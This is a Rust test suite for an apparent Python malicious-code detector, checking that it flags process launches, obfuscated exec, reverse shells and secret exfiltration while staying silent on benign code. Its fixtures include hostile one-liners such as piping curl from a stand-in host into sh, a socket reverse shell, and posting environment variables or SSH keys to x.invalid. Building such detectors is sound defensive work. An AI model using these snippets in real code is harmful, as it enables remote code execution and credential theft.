use super::*;

/// Names what is judged, so that the source is worth a run.
fn worth(source: &str) -> String {
    format!("# exec\n{source}")
}

fn kinds(source: &str) -> Vec<&'static str> {
    let mut kinds: Vec<_> =
        examine(source, &mut Budget::default()).iter().map(|fact| fact.kind.0.trim_start_matches("python-")).collect();
    kinds.sort_unstable();
    kinds
}

#[test]
fn what_runs_on_import() {
    for source in [
        "import os\nos.system('echo')\n",
        "import os as o\no.popen('x')\n",
        "from os import system as s\ns('x')\n",
        "from os import *\nsystem('x')\n",
        "import subprocess\nclass A:\n    x = subprocess.run(['echo', 'x'])\n",
        "import subprocess\ndef f(x=subprocess.call('x', shell=True)):\n    pass\n",
        "import os\ndef f():\n    os.system('x')\nf()\n",
        "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('x')\nA()\n",
        "import os\n@os.system\ndef f(): pass\n",
        "__import__('os').system('x')\n",
        "import importlib\nimportlib.import_module('os').system('x')\n",
        "import os\ngetattr(os, 'system')('x')\n",
        "import sys\nsys.modules['os'].system('x')\n",
        "import os\n(lambda c: os.system(c))('x')\n",
        "import os\n[os.system(c) for c in ['x']]\n",
        "import os\nlist(map(os.system, ['x']))\n",
        "x = [y for y in [1] if __import__('os').system('x')]\n",
        "import os, threading\nthreading.Thread(target=os.system, args=('x',)).start()\n",
        "import os, atexit\natexit.register(os.system, 'x')\n",
        "import os\nclass A:\n    __class_getitem__ = os.system\nA['x']\n",
        "import os\nd = {'a': os.system}\nd['a']('x')\n",
        "import ctypes\nctypes.CDLL(None).system(b'x')\n",
        "import os\ntry:\n    import x\nexcept ImportError:\n    os.system('pip install x')\n",
        "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('x',))\n",
        "import os\nclass M(PreTrainedModel):\n    def forward(self, x):\n        os.system('x')\n",
        "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('x')\n",
        "import os\ndef handle(data, context):\n    os.system('x')\n",
        "exec('import os; os.system(\"x\")')\n",
        "eval('__import__(\"os\").system(\"x\")')\n",
        "import functools, os\nfunctools.partial(os.system, 'x')()\n",
        "import os\nwith open('x') as f, os.popen('x') as p:\n    pass\n",
        "import os\nx = os.system('x') if True else None\n",
        "# x\ros = __import__('os')\ros.system('x')\r",
        "import shutil\nshutil.os.system('x')\n",
        "import os\nos.__getattribute__('system')('x')\n",
        "import operator, os\noperator.attrgetter('system')(os)('x')\n",
        "import operator, os\noperator.methodcaller('system', 'x')(os)\n",
        "import sys\nsys.modules.get('os').system('x')\n",
        "import os\ntype('X', (), {'__init__': lambda self: os.system('x')})()\n",
        "import os\nclass A:\n    def __enter__(self):\n        os.system('x')\nwith A():\n    pass\n",
        "import os\nclass A:\n    @property\n    def p(self):\n        return os.system('x')\nA().p\n",
        "import os, atexit\n@atexit.register\ndef f():\n    os.system('x')\n",
        "import os, torch\ndef f(*a):\n    os.system('x')\ntorch.load = f\n",
        "def f():\n    exec('import os; ' + 'os.system(1)')\n",
        "import os\nif __name__ == '__main__' or True:\n    os.system('x')\n",
        "import os\nif (n := os.system('x')):\n    pass\n",
    ] {
        assert!(kinds(source).contains(&"runs-process"), "{source}: {:?}", kinds(source));
    }
}

#[test]
fn what_hides_is_found_wherever_it_stands() {
    for (source, kind) in [
        ("import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n", "dynamic-code"),
        ("import base64, zlib\ndef f(data):\n    exec(zlib.decompress(base64.b64decode(data)))\n", "dynamic-code"),
        ("import requests\ndef f():\n    exec(requests.get('http://x.invalid').text)\n", "dynamic-code"),
        (
            "import urllib.request as u, pickle\ndef f():\n    return pickle.loads(u.urlopen('http://x.invalid').read())\n",
            "dynamic-code",
        ),
        ("exec(''.join(chr(c) for c in [105, 109]))\n", "dynamic-code"),
        ("exec(''.join(map(chr, [105, 109])))\n", "dynamic-code"),
        ("𝓮𝔁𝓮𝓬(input())\n", "obfuscated"),
        ("exec(open('model.bin').read())\n", "dynamic-code"),
        ("exec(bytes(b ^ 7 for b in b'jihun'))\n", "dynamic-code"),
        (
            "def d(c):\n    return chr(c - 1)\nexec(''.join(d(c) for c in [106, 110, 113, 112, 115, 117, 33, 112, 116, 106, 110, 113, 112, 115, 117]))\n",
            "dynamic-code",
        ),
        ("exec('so tropmi'[::-1])\n", "dynamic-code"),
        ("exec(bytes([105, 109]).decode())\n", "dynamic-code"),
        ("exec(bytes.fromhex('696d'))\n", "dynamic-code"),
        ("import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n", "dynamic-code"),
        ("import marshal, types\ndef f(b):\n    types.FunctionType(marshal.loads(b), globals())()\n", "dynamic-code"),
        ("e = exec\nimport base64 as b\ne(compile(b.b64decode(x), 'x', 'exec'))\n", "dynamic-code"),
        ("import os\ndef f():\n    getattr(os, 'sys' + 'tem')('x')\n", "obfuscated"),
        ("def f():\n    __import__('o' + 's').system('x')\n", "obfuscated"),
        ("def f():\n    __import__('so'[::-1]).system('x')\n", "obfuscated"),
        ("def f():\n    globals()['__builtins__'].__dict__['ev' + 'al']('1')\n", "obfuscated"),
        ("import os\ndef f():\n    os.system('curl http://x.invalid | sh')\n", "reverse-shell"),
        (
            "import socket, os, pty\ndef f():\n    s = socket.socket()\n    s.connect(('x.invalid', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('sh')\n",
            "reverse-shell",
        ),
        (
            "import os, requests\ndef f():\n    requests.post('http://x.invalid', json=dict(os.environ))\n",
            "sends-secrets",
        ),
        (
            "import os, requests, json\ndef f():\n    d = json.dumps(dict(os.environ))\n    requests.post('http://x.invalid', data=d)\n",
            "sends-secrets",
        ),
        (
            "import os, requests\ndef f():\n    p = os.path.expanduser('~/.ssh/id_rsa')\n    requests.post('http://x.invalid', data=open(p).read())\n",
            "sends-secrets",
        ),
        (
            "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('x')\n",
            "writes-startup",
        ),
        ("import urllib.request\nurllib.request.urlopen('http://x.invalid')\n", "opens-connection"),
        ("import socket\ns = socket.socket()\ns.connect(('x.invalid', 1))\n", "opens-connection"),
        ("open('/tmp/x', 'w').write('x')\n", "writes-file"),
        ("from pathlib import Path\nPath('/tmp/x').write_text('x')\n", "writes-file"),
        ("# \u{202e} hidden \u{2066} text\nx = 1\n", "hidden-text"),
        ("import ctypes\nctypes.CDLL('./x.so')\n", "loads-native"),
    ] {
        assert!(kinds(source).contains(&kind), "{source}: {:?}", kinds(source));
    }
}

#[test]
fn honest_code_is_silent() {
    for source in [
        "import math\nimport torch\nfrom torch import nn\nclass M(nn.Module):\n    def forward(self, x):\n        return nn.functional.gelu(x) * math.sqrt(2)\n",
        "import os\nCACHE = os.path.join(os.path.expanduser('~'), '.cache')\nHOME = os.environ.get('HF_HOME', CACHE)\n",
        "import subprocess\ndef build():\n    subprocess.check_call(['make'])\n",
        "import subprocess\nif __name__ == '__main__':\n    subprocess.call('x', shell=True)\n",
        "import requests\ndef download(url):\n    return requests.get(url).content\n",
        "import os\ndef save(path, text):\n    os.makedirs(path, exist_ok=True)\n    with open(path, 'w') as f:\n        f.write(text)\n",
        "from torch.utils.cpp_extension import load\ndef kernel():\n    return load(name='k', sources=['k.cu'])\n",
        "import base64, bz2\nkernels = Kernel(bz2.decompress(base64.b64decode('QlpoOTFBWSZTWU9yuJ')), ['a'])\n",
        "import sys, pty\nif sys.platform != 'win32' and __name__ == '__main__':\n    pty.spawn('x')\n",
        "def g(): eval(','.join(reversed(['a'])))\n",
        "df.eval('a + b')\nmodel.eval()\n",
        "from .os import system\nsystem('x')\n",
        "import re\np = re.compile('x')\n",
        "import collections\nP = collections.namedtuple('P', 'x y')\n",
        "import pickle\ndef load(path):\n    with open(path, 'rb') as f:\n        return pickle.load(f)\n",
    ] {
        assert_eq!(kinds(source), Vec::<&str>::new(), "{source}");
    }
}

#[test]
fn names_the_line_and_shows_it() {
    let fact = &examine("import os\n\nos.system('echo hello')\n", &mut Budget::default())[0];
    assert_eq!((fact.line, fact.subject.as_str()), (Some((3, 1)), "os.system"));
    assert_eq!(fact.message, "importing this starts a program through `os.system`: `echo hello`");
}

#[test]
fn hostile_shapes_end() {
    let deep = format!("x = {}1{}\n", "(".repeat(50_000), ")".repeat(50_000));
    let chain = format!("x = {}\n", vec!["'a'"; 50_000].join(" + "));
    let dots = format!("x{}\n", ".a".repeat(100_000));
    let blocks: String = (0..90).map(|depth| format!("{}if x:\n", " ".repeat(depth))).collect();
    let bomb = format!("s = 'x' * 90000\n{}", "s = s + s\n".repeat(200));
    let calls: String =
        (0..40).map(|at| format!("def f{at}():\n    f{}()\n    f{}()\n", at + 1, at + 1)).collect::<String>()
            + "f0()\n";
    let recursive = "def f(x):\n    return f(x + 'a')\nf('a')\n".to_string();
    for source in [
        deep,
        chain,
        dots,
        blocks,
        bomb,
        calls,
        recursive,
        "exec(".repeat(5_000),
        "f'{".repeat(5_000),
        "lambda: ".repeat(20_000),
    ] {
        examine(&source, &mut Budget::default());
    }
}

#[test]
fn no_truncation_panics() {
    let source = "import os, base64 as b\nfrom x import *\n@d(1)\nclass A(B, metaclass=C):\n    x: int = [c for c in 'aé' if c]\n    def f(self, *a, k=1, **kw):\n        with open('x') as f: exec(b.b64decode(f'{x!r:>3}'))\n        return {**kw, 'a': a[1:-1:2], 'b': lambda y: -y}\n";
    for end in 0..source.len() {
        examine(&String::from_utf8_lossy(&source.as_bytes()[..end]), &mut Budget::default());
    }
}

/// Sources that take a parser or the run far more work than their length: what is done is limited by counting.
#[test]
fn stops_at_sources_made_to_be_dear() {
    let repeated = |part: &str| format!("import os\nos.system('x')\nx = {}", part.repeat((256 << 10) / part.len()));
    for part in ["[y for y in ", "{", "{}", "f()", "\\\n", "f(*", "[y\n", "f\"{"] {
        let source = repeated(part);
        let found = kinds(&source);
        assert!(found.contains(&"analysis-unfinished"), "{part}: {found:?}");
    }
}

#[test]
fn goes_through_long_honest_sources() {
    for part in ["def f(a, b=1):\n    return [a[i] + b for i in range(3)]\n\n\n", "X = {'a': (1, 2.5), 'b': [f(3)]}\n"]
    {
        assert_eq!(kinds(&worth(&part.repeat((300 << 10) / part.len()))), Vec::<&str>::new(), "{part}");
    }
    let text = format!("X = (\n{})\n", "    'some text of a table'\n".repeat(15_000));
    assert_eq!(kinds(&worth(&text)), Vec::<&str>::new());
}

/// One budget for all the sources of a file, of which none takes all: a payload behind noise is still analysed, and
/// behind very much noise at least looked for.
#[test]
fn noise_before_a_payload_does_not_hide_it() {
    let payload = "import os\nos.system('x')\n";
    for (noise, expected) in
        [(1, vec!["runs-process"]), (5, vec!["runs-process"]), (100, vec!["analysis-unfinished", "unread-danger"])]
    {
        let mut budget = Budget::default();
        for _ in 0..noise {
            examine(&worth(&"x = {} {}\n".repeat(10_000)), &mut budget);
        }
        let found = examine(payload, &mut budget);
        let mut kinds: Vec<_> = found.iter().map(|fact| fact.kind.0.trim_start_matches("python-")).collect();
        kinds.sort_unstable();
        assert_eq!(kinds, expected, "{noise}");
    }
}

/// What is behind a trap in the same source is at least looked for, and what stands before it is analysed.
#[test]
fn a_trap_hides_nothing_in_its_source() {
    let trap = "for i in range(1000): x = x + 'a'\n".repeat(10_000);
    let found = kinds(&format!("import os\n{trap}os.popen('x')\n"));
    assert!(found.contains(&"unread-danger"), "{found:?}");
    let errors = "x = {} {}\n".repeat(30_000);
    let found = kinds(&format!("import os\nos.system('x')\n{errors}os.popen('x')\n"));
    assert_eq!(found, ["analysis-unfinished", "runs-process", "unread-danger"]);
}

/// Folding is counted by the size of what is folded, and nothing is built that is larger than the limit.
#[test]
fn stops_at_constants_made_to_be_dear() {
    for (before, repeated) in [
        ("x = 'a' * 90000\n", "y = x[0]\n"),
        ("x = list(range(20000))\n", "y = list(zip(x, x, x, x))\n"),
        ("x = 'a' * 90000\ny = '{0}' * 30000\n", "z = y.format(x)\n"),
        ("", "x = list('a' * 90000)\n"),
        ("x = []\n", "for i in range(3000): x = [x]\n"),
    ] {
        let source = format!("{before}{}", repeated.repeat((200 << 10) / repeated.len()));
        let found = kinds(&worth(&source));
        assert_eq!(found, ["analysis-unfinished"], "{repeated}");
    }
}

/// As the tests of Python itself do it.
#[test]
fn a_class_whose_instances_are_called_by_being_called_ends() {
    let source = worth("class A:\n    pass\nA.__call__ = A()\na = A()\na()\n");
    assert!(kinds(&source).contains(&"analysis-unfinished"));
}
